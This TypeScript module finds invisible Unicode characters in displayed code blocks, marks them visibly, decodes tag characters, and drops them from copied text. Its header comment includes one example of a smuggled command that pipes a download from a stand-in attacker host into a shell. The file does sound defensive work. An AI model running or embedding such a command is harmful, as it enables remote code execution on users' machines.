/**
 * Invisible characters in code. A block that shows `pip install requests` can carry Unicode tag
 * characters (invisible ASCII: ` && curl evil.example/x|sh`) or a bidi override onto the clipboard
 * and into a terminal. The code renderer shows each run of them as a visible mark, and Copy code
 * leaves them out, so what is copied is what was shown.
 *
 * Invisible here: control characters other than tab and newline (and CR before LF), format
 * characters (zero-width, bidi, tags, BOM, soft hyphen…), variation selectors, line and paragraph
 * separators, Hangul fillers and the combining grapheme joiner. Kept, because they are part of
 * something visible: a zero-width joiner inside an emoji sequence (👩‍💻) or between letters of a
 * joining script, ZWNJ in those scripts, one emoji variation selector after an emoji, and the tag
 * sequence of a subdivision flag (🏴 England). The script and emoji classes follow
 * lib/selection/normalize.ts. Pure.
 */

/** A piece of code: visible text, or a run of invisible characters to show as one mark. */
export interface CodePiece {
  text: string;
  hidden: boolean;
}

// Every control but tab and newline, format characters, separators, selectors and fillers.
const CANDIDATE = new RegExp(
  [
    '[\\0-\\x08\\x0B-\\x1F\\x7F-\\x9F\\p{Cf}\\p{Zl}\\p{Zp}\\u115F\\u1160\\u3164\\uFFA0]',
    // Combining marks apart, each class on its own: they draw nothing.
    '\\u034F',
    '[\\u180B-\\u180F]',
    '[\\uFE00-\\uFE0F]',
    '[\\u{E0100}-\\u{E01EF}]',
  ].join('|'),
  'u',
);
// Format characters that draw a visible sign (Arabic and Syriac number marks, Kaithi signs).
const VISIBLE_FORMAT = /[\u0600-\u0605\u06DD\u070F\u0890\u0891\u08E2\u{110BD}\u{110CD}]/u;
const JOINING =
  /[\p{sc=Arab}\p{sc=Syrc}\p{sc=Nkoo}\p{sc=Mong}\p{sc=Deva}\p{sc=Beng}\p{sc=Guru}\p{sc=Gujr}\p{sc=Orya}\p{sc=Taml}\p{sc=Telu}\p{sc=Knda}\p{sc=Mlym}\p{sc=Sinh}\p{sc=Khmr}\p{sc=Mymr}\p{sc=Tibt}]/u;
const EMOJI = /[\p{Extended_Pictographic}\u{1F3FB}-\u{1F3FF}\u{1F9B0}-\u{1F9B3}]/u;
const EMOJI_BASE = /\p{Emoji}/u;
const BLACK_FLAG = 0x1f3f4;
const TAG_CANCEL = 0xe007f;

const isTag = (cp: number) => cp >= 0xe0000 && cp <= 0xe007f;
const isSkinTone = (cp: number) => cp >= 0x1f3fb && cp <= 0x1f3ff;
const isSelector = (cp: number) =>
  (cp >= 0xfe00 && cp <= 0xfe0f) || (cp >= 0xe0100 && cp <= 0xe01ef);

/** Whether the invisible code point at index `i` of `cps` belongs to something visible. */
function partOfVisible(cps: number[], i: number): boolean {
  const cp = cps[i] as number;
  const prev = i > 0 ? String.fromCodePoint(cps[i - 1] as number) : '';
  const next = i + 1 < cps.length ? String.fromCodePoint(cps[i + 1] as number) : '';
  if (cp === 0x0d) return next === '\n';
  if (cp === 0x200d) {
    // Skip the selector or skin tone that may sit between an emoji and its joiner.
    const modifier = cps[i - 1] === 0xfe0f || isSkinTone(cps[i - 1] as number);
    const base = i > 1 && modifier ? cps[i - 2] : cps[i - 1];
    const before = base === undefined ? '' : String.fromCodePoint(base);
    if (EMOJI.test(before) && EMOJI.test(next)) return true;
  }
  if (cp === 0x200c || cp === 0x200d) return JOINING.test(prev) && JOINING.test(next);
  if (cp === 0xfe0e || cp === 0xfe0f)
    return EMOJI_BASE.test(prev) && !isSelector(cps[i - 1] as number);
  return VISIBLE_FORMAT.test(String.fromCodePoint(cp));
}

/** Marks the tags of a flag sequence (🏴 + 2–6 tag letters or digits + cancel tag) as visible. */
function flagTags(cps: number[], kept: boolean[]): void {
  for (let i = 0; i < cps.length; i++) {
    if (cps[i] !== BLACK_FLAG) continue;
    let j = i + 1;
    while (j < cps.length && j - i <= 7) {
      const cp = cps[j] as number;
      if (!((cp >= 0xe0030 && cp <= 0xe0039) || (cp >= 0xe0061 && cp <= 0xe007a))) break;
      j++;
    }
    if (cps[j] === TAG_CANCEL && j - i - 1 >= 2 && j - i - 1 <= 6)
      for (let k = i + 1; k <= j; k++) kept[k] = true;
  }
}

/** `code` as visible text and runs of invisible characters, in order. */
export function splitInvisible(code: string): CodePiece[] {
  if (!CANDIDATE.test(code)) return [{ text: code, hidden: false }];
  const cps = Array.from(code, (ch) => ch.codePointAt(0) as number);
  const kept: boolean[] = [];
  flagTags(cps, kept);
  const pieces: CodePiece[] = [];
  for (let i = 0; i < cps.length; i++) {
    const ch = String.fromCodePoint(cps[i] as number);
    const hidden = !kept[i] && CANDIDATE.test(ch) && !partOfVisible(cps, i);
    const last = pieces[pieces.length - 1];
    if (last && last.hidden === hidden) last.text += ch;
    else pieces.push({ text: ch, hidden });
  }
  return pieces;
}

/** `code` without its invisible characters, and how many were removed (code points). */
export function stripInvisible(code: string): { text: string; removed: number } {
  let removed = 0;
  let text = '';
  for (const piece of splitInvisible(code)) {
    if (piece.hidden) removed += Array.from(piece.text).length;
    else text += piece.text;
  }
  return { text, removed };
}

const NAMES: Record<number, string> = {
  0x00: 'null',
  0x08: 'backspace',
  0x0d: 'carriage return',
  0x1b: 'escape',
  0x7f: 'delete',
  0xad: 'soft hyphen',
  0x34f: 'combining grapheme joiner',
  0x61c: 'Arabic letter mark',
  0x180e: 'Mongolian vowel separator',
  0x200b: 'zero-width space',
  0x200c: 'zero-width non-joiner',
  0x200d: 'zero-width joiner',
  0x200e: 'left-to-right mark',
  0x200f: 'right-to-left mark',
  0x2028: 'line separator',
  0x2029: 'paragraph separator',
  0x202a: 'left-to-right embedding',
  0x202b: 'right-to-left embedding',
  0x202c: 'pop directional formatting',
  0x202d: 'left-to-right override',
  0x202e: 'right-to-left override',
  0x2060: 'word joiner',
  0x2066: 'left-to-right isolate',
  0x2067: 'right-to-left isolate',
  0x2068: 'first strong isolate',
  0x2069: 'pop directional isolate',
  0x3164: 'Hangul filler',
  0xfeff: 'zero-width no-break space',
};

/** "U+202E". */
export function codePointLabel(cp: number): string {
  return `U+${cp.toString(16).toUpperCase().padStart(4, '0')}`;
}

function nameOf(cp: number): string {
  if (isSelector(cp)) return 'variation selector';
  if (cp <= 0x1f || (cp >= 0x7f && cp <= 0x9f)) return NAMES[cp] ?? 'control character';
  return NAMES[cp] ?? 'invisible character';
}

/** The mark's own text: the code point for one character, a count for a run. */
export function hiddenLabel(run: string): string {
  const cps = Array.from(run, (ch) => ch.codePointAt(0) as number);
  return cps.length === 1 ? codePointLabel(cps[0] as number) : `${cps.length} hidden`;
}

/**
 * What a run holds, for the mark's tooltip: tag characters decoded to the ASCII they spell,
 * other characters by name and code point.
 */
export function describeHidden(run: string): string {
  const cps = Array.from(run, (ch) => ch.codePointAt(0) as number);
  const parts: string[] = [];
  for (let i = 0; i < cps.length;) {
    const cp = cps[i] as number;
    let j = i + 1;
    if (isTag(cp)) {
      while (j < cps.length && isTag(cps[j] as number)) j++;
      const spelled = cps
        .slice(i, j)
        .filter((t) => t >= 0xe0020 && t < 0xe007f)
        .map((t) => String.fromCodePoint(t - 0xe0000))
        .join('');
      const count = `${j - i} tag character${j - i === 1 ? '' : 's'}`;
      parts.push(spelled ? `${count} spelling “${spelled.slice(0, 200)}”` : count);
    } else {
      while (j < cps.length && cps[j] === cp) j++;
      parts.push(`${nameOf(cp)} (${codePointLabel(cp)})${j - i > 1 ? ` ×${j - i}` : ''}`);
    }
    i = j;
  }
  const total = `${cps.length} invisible character${cps.length === 1 ? '' : 's'}`;
  return `${total}: ${parts.join(', ')}. Copy code leaves ${cps.length === 1 ? 'it' : 'them'} out.`;
}
